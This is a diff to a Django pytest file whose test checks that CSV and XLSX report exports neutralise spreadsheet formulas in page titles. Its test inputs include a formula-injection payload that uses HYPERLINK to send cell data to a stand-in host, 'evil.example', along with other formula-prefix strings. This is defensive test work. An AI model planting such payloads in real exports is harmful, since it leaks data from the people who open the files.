@@ -8,6 +8,7 @@ import pytest
 from django.urls import reverse
 
 from cms.models import ProjectPage, UnplacedValue, UnresolvedReference
+from tests.thorough import mostly_slow
 
 pytestmark = pytest.mark.django_db
 
@@ -16,7 +17,7 @@ ADDRESS = "/admin/reports/not-found-yet/"
 
 @pytest.fixture
 def imported(index):
-    """A draft with a name that matches nothing, and a value that has no field."""
+    """Return a draft with a name that matches nothing, and a value that has no field."""
     page = ProjectPage(title="From the old site", slug="old", live=False)
     page.unresolved_references = [UnresolvedReference(field="related_activities", name="Policy platforms")]
     page.unplaced_values = [UnplacedValue(label="Reports", value="24 practices")]
@@ -72,7 +73,9 @@ def cells(answer):
     return [str(cell) for row in rows for cell in row]
 
 
-@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1"])
+@pytest.mark.parametrize(
+    "title", mostly_slow(['=HYPERLINK("http://evil.example/?"&A1,"x")', "\t=1+1", "+1+1", "@SUM(1)", "-2+3"], 2)
+)
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
 def test_no_title_is_taken_for_a_formula_in_an_export_of_a_report(admin_client, imported, title, kind):
     imported.title = title
